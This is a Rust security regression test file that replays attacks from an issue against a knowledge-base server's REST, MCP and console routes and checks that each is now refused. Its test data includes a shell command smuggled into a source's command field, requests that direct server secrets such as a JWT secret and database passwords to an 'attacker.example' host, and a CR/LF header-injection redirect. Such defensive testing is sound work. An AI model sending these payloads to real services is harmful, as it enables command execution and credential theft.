//! The attacks of issue 29, replayed through the real router: each probe is a row of a table
//! with what it must answer now. Every row failed on the `main` before the fix (each test
//! says how it did); `docs/security.md` describes the rules they pin.
//!
//! The process's source access (installed once for this test binary, as `serve` does from its
//! configuration): `[sources] roots` = one temp folder, one operator command `transcribe` (a
//! small script in that folder), and one credential variable for client `acme`.

#[path = "console/mod.rs"]
mod console;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};

use axum::body::Body;
use evident_core::access::{Grant, Role};
use evident_e2e::{Embed, TestApp, bearer};
use evident_indexers::access::{Access, SourceRoots, install};
use evident_sources::commands::{
    Commands, TranscriptionCommand, TranscriptionSettings, default_env,
};
use evident_sources::credentials::{CredentialRule, CredentialRules};
use serde_json::{Value, json};

/// A harmless transcriber: writes a WebVTT naming the recording it was given.
const SCRIPT: &str = "#!/bin/sh\nprintf 'WEBVTT\\n\\n00:00.000 --> 00:02.000\\n<v Ann>%s was heard by the operator transcriber\\n' \"$(basename \"$1\")\" > \"$2\"\n";

struct World {
    dir: tempfile::TempDir,
}

/// The folder sources may read (`[sources] roots`), created with the process's access.
fn root() -> PathBuf {
    static WORLD: OnceLock<World> = OnceLock::new();
    let w = WORLD.get_or_init(|| {
        let dir = tempfile::tempdir().expect("tmp");
        let root = dir.path().join("root");
        std::fs::create_dir_all(root.join("meetings")).expect("mkdir");
        let script = dir.path().join("transcribe.sh");
        std::fs::write(&script, SCRIPT).expect("script");
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        let mut transcription = TranscriptionSettings::default();
        transcription.commands.insert(
            "transcribe".into(),
            TranscriptionCommand {
                program: script,
                args: vec!["{input}".into(), "{output}".into()],
                output_format: evident_extract::transcript::TranscriptFormat::Vtt,
                env: default_env(),
            },
        );
        let credentials = [(
            "ACME_GITHUB_TOKEN".to_string(),
            CredentialRule {
                clients: vec!["acme".into()],
                hosts: vec!["api.github.com".into()],
            },
        )]
        .into_iter()
        .collect();
        install(
            Access::new(Default::default(), SourceRoots::new([&root]))
                .with_commands(Commands::new(&transcription).expect("commands"))
                .with_credentials(CredentialRules::new(&credentials).expect("credentials")),
        );
        World { dir }
    });
    w.dir.path().join("root")
}

/// The request, verbatim but for the root folder.
fn attack_body() -> Value {
    json!({"id": "acme.meet", "path": root().join("meetings"), "recordings":
        {"extensions": ["md"], "command": ["/bin/sh", "-c", "id > pwned.txt", "{input}", "{output}"]}})
}

/// A token of every role over client `acme` (and a narrowed admin), and the operator's.
async fn every_role(app: &TestApp) -> Vec<(&'static str, String)> {
    let mut out = vec![("operator", app.token.clone())];
    for (name, role) in [
        ("read", Role::Read),
        ("write", Role::Write),
        ("admin", Role::Admin),
    ] {
        out.push((name, app.client_token(name, "acme", role).await));
    }
    let narrowed = Grant {
        role: Role::Admin,
        client_id: Some("acme".into()),
        projects: vec!["p1".into()],
        groups: vec![],
    };
    out.push(("project admin", app.token("project-admin", narrowed).await));
    out
}

/// The registered (polled) sources of `client`, by id.
async fn registered_ids(app: &TestApp, client: &str) -> Vec<String> {
    let v = app
        .get_ok(&format!("/api/v1/indexers?clientId={client}"))
        .await;
    evident_e2e::field_strs(&v["sources"], "id")
        .into_iter()
        .map(str::to_string)
        .collect()
}

/// One MCP call through the router as `secret`.
async fn mcp(app: &TestApp, secret: &str, method: &str, params: Value) -> (u16, Value) {
    let body = json!({"jsonrpc": "2.0", "id": 7, "method": method, "params": params});
    let auth = bearer(secret);
    let (s, v) = app
        .call(
            "POST",
            "/mcp",
            Some(Body::from(body.to_string())),
            &[
                ("authorization", auth.as_str()),
                ("host", "evident.example.com"),
                ("accept", "application/json, text/event-stream"),
                ("mcp-protocol-version", "2025-06-18"),
            ],
        )
        .await;
    (s.as_u16(), v)
}

/// Every key of every object in `v`, recursively.
fn keys(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::Object(m) => {
            for (k, x) in m {
                out.push(k.clone());
                keys(x, out);
            }
        }
        Value::Array(a) => a.iter().for_each(|x| keys(x, out)),
        _ => {}
    }
}

/// Item 1. On main the admin's request answered 201 and the server ran `/bin/sh` for every
/// `.md` under the folder (`recordings.command` was taken from the body, no role checked).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_program_in_a_request_is_refused_for_every_role_over_rest_mcp_and_the_console() {
    root(); // the process\'s source access (each test may run in its own process)
    let app = TestApp::new(Embed::Hashing).await;
    std::fs::write(root().join("meetings/notes.md"), "# notes").expect("md");
    for (role, secret) in every_role(&app).await {
        let mut body = attack_body();
        match role {
            "operator" => body["clientId"] = json!("acme"), // an operator token names no client
            "project admin" => body["projectId"] = json!("p1"), // it writes into p1 only
            _ => {}
        }
        let (s, v) = app
            .call_auth(
                &bearer(&secret),
                "POST",
                "/api/v1/sources/transcripts",
                Some(&body),
            )
            .await;
        let expected = match role {
            "read" | "write" => (403, "forbidden_role"),
            _ => (400, "command_not_allowed"),
        };
        assert_eq!(
            (s.as_u16(), v["code"].as_str().unwrap_or("")),
            expected,
            "{role}: {v}"
        );
        assert!(v["message"].is_string(), "{role}: {v}");
        // Over MCP: no tool registers a source, and none takes a program.
        let (s, v) = mcp(
            &app,
            &secret,
            "tools/call",
            json!({"name": "register_source", "arguments": body}),
        )
        .await;
        assert!(
            v.get("error").is_some() || v["result"]["isError"] == true || s >= 400,
            "{role}: {v}"
        );
        let (_, tools) = mcp(&app, &secret, "tools/list", json!({})).await;
        let mut names = Vec::new();
        keys(&tools["result"]["tools"], &mut names);
        assert!(!names.is_empty(), "{role}: {tools}");
        for bad in ["command", "recordings", "program"] {
            assert!(
                !names.iter().any(|n| n == bad),
                "{role}: a tool takes `{bad}`"
            );
        }
    }
    // The console's form goes through the same registration.
    let admin = app.client_token("console-admin", "acme", Role::Admin).await;
    let cookie = console::login(&app, &admin).await;
    let page = console::page(&app, "/ui/sources?clientId=acme", &cookie).await;
    let form = format!(
        "csrf={}&kind=transcripts&settings={}&confirmed=1",
        console::enc(&page.csrf()),
        console::enc(&attack_body().to_string())
    );
    let r = console::submit(&app, "/ui/sources?clientId=acme", &cookie, &form).await;
    assert_eq!(r.status.as_u16(), 400, "{}", r.body);
    assert!(registered_ids(&app, "acme").await.is_empty());
    assert!(!root().join("meetings/pwned.txt").exists());
    // A configuration file's source is held to the same rule.
    let dir = tempfile::tempdir().expect("tmp");
    let file = dir.path().join("evident.toml");
    std::fs::write(
        &file,
        "[[sources.transcripts]]\nclient = \"acme\"\npath = \"/srv/m\"\nrecordings = { command = [\"/bin/sh\", \"-c\", \"id\", \"{input}\", \"{output}\"] }\n",
    )
    .expect("config");
    let err = evident_runtime::Config::load(Some(&file), Vec::new()).expect_err("refused");
    assert!(err.to_string().contains("never accepted"), "{err}");
}

/// The same class, found auditing the other settings: a source names environment variables
/// the server reads and sends to the source's host. On main every row answered 201: any
/// variable (the JWT secret, a database password) went to a host of the caller's choosing,
/// and an IMAP source's default id even held the value of `usernameEnv`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_variables_go_only_to_their_clients_and_hosts() {
    root(); // the process\'s source access (each test may run in its own process)
    let app = TestApp::new(Embed::Hashing).await;
    let admin = app.client_token("admin", "acme", Role::Admin).await;
    let beta = app.client_token("beta-admin", "beta", Role::Admin).await;
    let probes = [
        (
            "any variable to the caller's host",
            &admin,
            "github",
            json!({"repo": "a/b", "baseUrl": "https://attacker.example", "tokenEnv": "EVIDENT_JWT_SECRET"}),
        ),
        (
            "an allowed variable to another host",
            &admin,
            "github",
            json!({"repo": "a/b", "baseUrl": "https://attacker.example", "tokenEnv": "ACME_GITHUB_TOKEN"}),
        ),
        (
            "another client's variable",
            &beta,
            "github",
            json!({"repo": "acme/private", "tokenEnv": "ACME_GITHUB_TOKEN"}),
        ),
        (
            "a variable read into the source's id",
            &admin,
            "imap",
            json!({"host": "imap.example.com", "usernameEnv": "HOME", "passwordEnv": "PATH"}),
        ),
        (
            "a git token",
            &admin,
            "git",
            json!({"url": "https://attacker.example/r.git", "tokenEnv": "MONGO_URI"}),
        ),
        (
            "a wiki token",
            &admin,
            "confluence",
            json!({"baseUrl": "https://attacker.example/wiki", "space": "ENG", "tokenEnv": "ARANGO_PASSWORD"}),
        ),
    ];
    for (what, secret, kind, body) in probes {
        let (s, v) = app
            .call_auth(
                &bearer(secret),
                "POST",
                &format!("/api/v1/sources/{kind}"),
                Some(&body),
            )
            .await;
        assert_eq!(
            (s.as_u16(), v["code"].as_str().unwrap_or("")),
            (403, "credential_not_allowed"),
            "{what}: {v}"
        );
        let home = std::env::var("HOME").unwrap_or_default();
        assert!(
            home.is_empty() || !v.to_string().contains(&home),
            "{what}: {v}"
        );
    }
    // The variable allowed to acme for its host is accepted.
    let (s, v) = app
        .call_auth(
            &bearer(&admin),
            "POST",
            "/api/v1/sources/github",
            Some(&json!({"repo": "acme/shop", "tokenEnv": "ACME_GITHUB_TOKEN"})),
        )
        .await;
    assert_eq!(s, 201, "{v}");
}

/// The operator's command runs, by name: a registered source naming `transcribe` has its
/// recording transcribed by the script and the transcript indexed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operator_configured_transcription_command_still_works() {
    root(); // the process\'s source access (each test may run in its own process)
    use evident_indexers::poll::SourcePoller;
    let app = TestApp::new(Embed::Hashing).await;
    let folder = root().join("standups");
    std::fs::create_dir_all(&folder).expect("mkdir");
    std::fs::write(folder.join("monday.wav"), b"RIFF....").expect("wav");
    let admin = app.client_token("admin", "acme", Role::Admin).await;
    let (s, source) = app
        .call_auth(&bearer(&admin), "POST", "/api/v1/sources/transcripts",
            Some(&json!({"path": folder, "recordings": {"command": "transcribe", "extensions": ["wav"]}})))
        .await;
    assert_eq!(s, 201, "{source}");
    let source: evident_store::indexers::IndexerSource =
        serde_json::from_value(source).expect("source");
    let clock = Arc::new(evident_store::queue::ManualClock::new(1_700_000_000_000));
    let ctx = evident_indexers::poll::PollContext {
        indexers: app.kb.stores().indexers.clone(),
        tasks: evident_kb::TaskSubmitter::new(app.kb.stores().queue.clone()),
        owner: "attacks".into(),
        clock: clock.clone(),
        priority: evident_ai::Priority::DEFAULT,
        access: evident_indexers::access::current(),
    };
    let poller = evident_indexers::meetings::TranscriptsPoller::new(ctx);
    let report = poller
        .poll(&source)
        .await
        .expect("poll")
        .expect("lease")
        .to_json();
    assert_eq!(report["recordings"]["transcribing"], 1, "{report}");
    // A real child process: wait for it (bounded).
    for _ in 0..500 {
        if poller.transcribing() == 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    let report = poller
        .poll(&source)
        .await
        .expect("poll")
        .expect("lease")
        .to_json();
    assert_eq!(report["recordings"]["indexed"], 1, "{report}");
    let mut handlers = evident_kb::TaskHandlers::new(&app.kb);
    evident_indexers::items::ItemTasks {
        kb: app.kb.clone(),
        indexers: app.kb.stores().indexers.clone(),
        chunking: Default::default(),
    }
    .register(&mut handlers);
    let qualifier = evident_qualifier::Qualifier {
        handlers,
        ..app.qualifier()
    };
    while let evident_qualifier::Outcome::Processed { state, .. } =
        qualifier.process_next().await.expect("process")
    {
        assert_eq!(state, evident_store::queue::TaskState::Done);
    }
    let v = app
        .post_ok(
            "/api/v1/retrieve",
            &json!({"clientId": "acme", "query": "heard by the operator transcriber"}),
        )
        .await;
    assert!(v.to_string().contains("monday.wav was heard"), "{v}");
}

/// `POST /api/v1/tokens` with the operator's token, which must answer 201; the answer.
async fn mint_as_operator(app: &TestApp, body: &Value) -> Value {
    let (s, v) = app.post("/api/v1/tokens", body).await;
    assert_eq!(s, 201, "{v}");
    v
}

/// Item 3. On main the child minted from a 30-second admin token had no expiry, and revoking
/// the parent left it working. Long because it is one story against one app: each step mints
/// from, revokes or ages the tokens of the step before.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_minted_token_never_outlives_or_survives_its_parent() {
    root(); // the process\'s source access (each test may run in its own process)
    let (app, clock) = TestApp::with_clock(Embed::Hashing, 1_700_000_000_000).await;
    let parent = mint_as_operator(
        &app,
        &json!({"clientId": "acme", "role": "admin", "expiresInSecs": 30}),
    )
    .await;
    let (parent_id, parent_secret) = (
        parent["token"]["id"].as_str().expect("id").to_string(),
        parent["secret"].as_str().expect("secret").to_string(),
    );
    let parent_expiry = parent["token"]["expiresAt"].clone();
    let mint = |body: Value| {
        let (app, secret) = (&app, parent_secret.clone());
        async move {
            app.call_auth(&bearer(&secret), "POST", "/api/v1/tokens", Some(&body))
                .await
        }
    };
    // (asked lifetime → granted expiry): never past the parent's.
    for body in [
        json!({"role": "admin"}),
        json!({"role": "read", "expiresInSecs": 3600}),
    ] {
        let (s, v) = mint(body.clone()).await;
        assert_eq!(s, 201, "{body}: {v}");
        assert_eq!(v["token"]["expiresAt"], parent_expiry, "{body}: clamped");
    }
    let (_, v) = mint(json!({"role": "read", "expiresInSecs": 10})).await;
    assert_eq!(
        v["token"]["expiresAt"],
        json!(1_700_000_000_000i64 + 10_000),
        "a shorter one is kept"
    );
    // Revoked with its parent…
    let (_, child) = mint(json!({"role": "admin"})).await;
    let child_secret = child["secret"].as_str().expect("secret").to_string();
    let (s, _) = app
        .call_auth(&bearer(&child_secret), "GET", "/api/v1/whoami", None)
        .await;
    assert_eq!(s, 200);
    let (_, grandchild) = app
        .call_auth(
            &bearer(&child_secret),
            "POST",
            "/api/v1/tokens",
            Some(&json!({"role": "read"})),
        )
        .await;
    let grandchild_secret = grandchild["secret"].as_str().expect("secret").to_string();
    let (s, v) = app
        .call("DELETE", &format!("/api/v1/tokens/{parent_id}"), None, &[])
        .await;
    assert_eq!(s, 200, "{v}");
    for secret in [&child_secret, &grandchild_secret] {
        let (s, v) = app
            .call_auth(&bearer(secret), "GET", "/api/v1/whoami", None)
            .await;
        assert_eq!(
            (s.as_u16(), v["code"].as_str().unwrap_or("")),
            (401, "token_revoked"),
            "{v}"
        );
    }
    // …and expired with it.
    let parent = mint_as_operator(
        &app,
        &json!({"clientId": "acme", "role": "admin", "expiresInSecs": 30}),
    )
    .await;
    let secret = parent["secret"].as_str().expect("secret").to_string();
    let (_, child) = app
        .call_auth(
            &bearer(&secret),
            "POST",
            "/api/v1/tokens",
            Some(&json!({"role": "read"})),
        )
        .await;
    let child_secret = child["secret"].as_str().expect("secret").to_string();
    clock.advance(31_000);
    let (s, v) = app
        .call_auth(&bearer(&child_secret), "GET", "/api/v1/whoami", None)
        .await;
    assert_eq!(
        (s.as_u16(), v["code"].as_str().unwrap_or("")),
        (401, "token_expired"),
        "{v}"
    );
}

/// Item 4. On main acme registering beta's id got `409 source id shared.docs is taken`
/// (learning beta's ids, and squatting the ones beta would use). Long because it is one story:
/// the reads and the removal check what the registrations before them left.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn source_ids_belong_to_their_client() {
    root(); // the process\'s source access (each test may run in its own process)
    let app = TestApp::new(Embed::Hashing).await;
    let acme = app.client_token("acme-admin", "acme", Role::Admin).await;
    let beta = app.client_token("beta-admin", "beta", Role::Admin).await;
    for dir in ["acme", "beta"] {
        std::fs::create_dir_all(root().join(dir)).expect("mkdir");
    }
    let docs = |dir: &str| json!({"id": "shared.docs", "path": root().join(dir)});
    // (who, request) → status: the same id in two clients is two sources.
    let rows: [(&str, &String, &str, Value, u16); 4] = [
        ("beta registers", &beta, "documents", docs("beta"), 201),
        (
            "acme registers the same id",
            &acme,
            "documents",
            docs("acme"),
            201,
        ),
        (
            "acme again (an update)",
            &acme,
            "documents",
            docs("acme"),
            201,
        ),
        (
            "acme, the id as another kind",
            &acme,
            "mbox",
            json!({"id": "shared.docs", "path": root().join("acme/x.mbox")}),
            409,
        ),
    ];
    for (what, secret, kind, body, status) in rows {
        let (s, v) = app
            .call_auth(
                &bearer(secret),
                "POST",
                &format!("/api/v1/sources/{kind}"),
                Some(&body),
            )
            .await;
        assert_eq!(s.as_u16(), status, "{what}: {v}");
        let text = v.to_string();
        assert!(
            !text.contains("beta") || secret == &beta,
            "{what} reveals beta: {v}"
        );
    }
    let get = |secret: &String| {
        let (app, secret) = (&app, secret.clone());
        async move {
            app.call_auth(
                &bearer(&secret),
                "GET",
                "/api/v1/sources/documents/shared.docs",
                None,
            )
            .await
            .1
        }
    };
    assert!(
        get(&acme).await["config"]["path"]
            .as_str()
            .unwrap_or("")
            .ends_with("/acme")
    );
    assert!(
        get(&beta).await["config"]["path"]
            .as_str()
            .unwrap_or("")
            .ends_with("/beta")
    );
    let (s, _) = app
        .call_auth(
            &bearer(&acme),
            "DELETE",
            "/api/v1/sources/documents/shared.docs",
            None,
        )
        .await;
    assert_eq!(s, 202);
    assert_eq!(
        registered_ids(&app, "beta").await,
        ["shared.docs"],
        "beta's source stays"
    );
    assert!(registered_ids(&app, "acme").await.is_empty());
}

/// Item 5 (files). On main the database was created 0644 and an existing 0755 data dir stayed
/// 0755: every local user could read all clients' data and the token hashes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_data_dir_is_the_owners_only() {
    root(); // the process\'s source access (each test may run in its own process)
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    std::fs::write(dir.path().join("notes.txt"), "left by hand").expect("write");
    std::fs::set_permissions(
        dir.path().join("notes.txt"),
        std::fs::Permissions::from_mode(0o644),
    )
    .expect("chmod");
    let app = TestApp::with_embedder(
        Arc::new(evident_ai::HashingEmbedder::new(64).expect("dim")),
        1024 * 1024,
        dir,
    )
    .await;
    app.post_ok(
        "/api/v1/ingest",
        &json!({"clientId": "acme", "sourceUrn": "doc:x", "kind": "doc", "content": "the ledger"}),
    )
    .await;
    let mode = |p: &Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
    assert_eq!(mode(app.dir.path()), 0o700);
    let mut files = Vec::new();
    for e in std::fs::read_dir(app.dir.path()).expect("list").flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        assert_eq!(mode(&e.path()) & 0o077, 0, "{name} {:o}", mode(&e.path()));
        files.push(name);
    }
    for f in ["evident.db", "evident.db-wal", "LOCK", "notes.txt"] {
        assert!(files.iter().any(|n| n == f), "{f}: {files:?}");
    }
}

/// Item 5 (failed authentications). On main every unknown token cost a database lookup,
/// without limit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failed_authentications_are_rate_limited_before_any_lookup() {
    root(); // the process\'s source access (each test may run in its own process)
    let app = TestApp::new(Embed::Hashing).await;
    app.get_ok("/api/v1/whoami").await; // the operator's token, looked up once and cached
    let mut answers = Vec::new();
    for i in 0..25 {
        let (s, v) = app
            .call_auth(
                &bearer(&format!("evd_not-a-token-{i}")),
                "GET",
                "/api/v1/whoami",
                None,
            )
            .await;
        answers.push((s.as_u16(), v["code"].as_str().unwrap_or("").to_string()));
    }
    let refused = answers
        .iter()
        .filter(|(s, c)| *s == 429 && c == "auth_rate_limited")
        .count();
    let unknown = answers
        .iter()
        .filter(|(s, c)| *s == 401 && c == "invalid_token")
        .count();
    assert_eq!((unknown, refused), (20, 5), "{answers:?}");
    assert_eq!(answers[20].0, 429, "the budget is spent after 20");
    let (s, _) = app.get("/api/v1/whoami").await;
    assert_eq!(s, 200, "a cached, valid token still answers");
}

/// Item 5, the rest: each probe and what it must answer (main's answer in the comment). Long
/// because the probes share one app and beta's claim; each is a few lines.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_smaller_probes_are_refused_clearly() {
    root(); // the process\'s source access (each test may run in its own process)
    let app = TestApp::new(Embed::Hashing).await;
    let acme = app.client_token("acme-admin", "acme", Role::Admin).await;
    let beta = app.client_token("beta-admin", "beta", Role::Admin).await;
    let learn = |text: &str, supersedes: Option<&str>| {
        let mut b =
            json!({"text": text, "evidence": [{"kind": "url", "ref": "https://example.com/spec"}]});
        if let Some(s) = supersedes {
            b["supersedes"] = json!(s);
        }
        b
    };
    let (s, beta_claim) = app
        .call_auth(
            &bearer(&beta),
            "POST",
            "/api/v1/claims",
            Some(&learn("beta's cap is ten", None)),
        )
        .await;
    assert_eq!(s, 200, "{beta_claim}");
    let beta_id = beta_claim["id"].as_str().expect("id").to_string();
    // (what, request as acme, status, code). Main: 201, 201, 201 (NUL accepted, failing at
    // every poll).
    let rows = [
        (
            "supersedes a claim that does not exist",
            "/api/v1/claims",
            learn("the cap is five", Some("clm_0000000000000000")),
            422,
            "supersedes_not_found",
        ),
        (
            "supersedes another client's claim",
            "/api/v1/claims",
            learn("the cap is five", Some(&beta_id)),
            422,
            "supersedes_not_found",
        ),
        (
            "a NUL byte in a source path",
            "/api/v1/sources/documents",
            json!({"path": format!("{}/a\u{0}b", root().display())}),
            400,
            "invalid_field",
        ),
    ];
    for (what, uri, body, status, code) in rows {
        let (s, v) = app
            .call_auth(&bearer(&acme), "POST", uri, Some(&body))
            .await;
        assert_eq!(
            (s.as_u16(), v["code"].as_str().unwrap_or("")),
            (status, code),
            "{what}: {v}"
        );
        assert!(!v.to_string().contains("beta"), "{what} reveals beta: {v}");
    }
    // The same refusal over MCP's `learn` (main: the claim was stored).
    let (_, v) = mcp(
        &app,
        &acme,
        "tools/call",
        json!({"name": "learn", "arguments":
        {"clientId": "acme", "text": "the cap is five", "supersedes": beta_id,
         "evidence": [{"kind": "url", "ref": "https://example.com/spec"}]}}),
    )
    .await;
    assert!(v.to_string().contains("supersedes_not_found"), "{v}");
    // Malformed JSON on /mcp: a JSON-RPC parse error (main: 415, plain text).
    let (s, v) = app
        .call(
            "POST",
            "/mcp",
            Some(Body::from("{\"jsonrpc\": \"2.0\", \"id\": 1, \"method\": ")),
            &[
                ("host", "evident.example.com"),
                ("accept", "application/json, text/event-stream"),
                ("mcp-protocol-version", "2025-06-18"),
            ],
        )
        .await;
    assert_eq!(
        (s.as_u16(), v["error"]["code"].as_i64()),
        (400, Some(-32700)),
        "{v}"
    );
    assert_eq!(v["jsonrpc"], "2.0");
    // CR/LF in the login's `next`: a redirect to the console, with its Location (main: 303
    // without a Location).
    for next in ["%2Fui%2F%0D%0ASet-Cookie%3A%20x%3D1", "%2Fui%2Fqueue%0A"] {
        let form = format!("token={}&next={next}", console::enc(&app.token));
        let r = console::login_form(&app, &[], &form).await;
        assert_eq!(r.status.as_u16(), 303, "{}", r.body);
        assert_eq!(r.header(axum::http::header::LOCATION), "/ui", "{next}");
    }
}
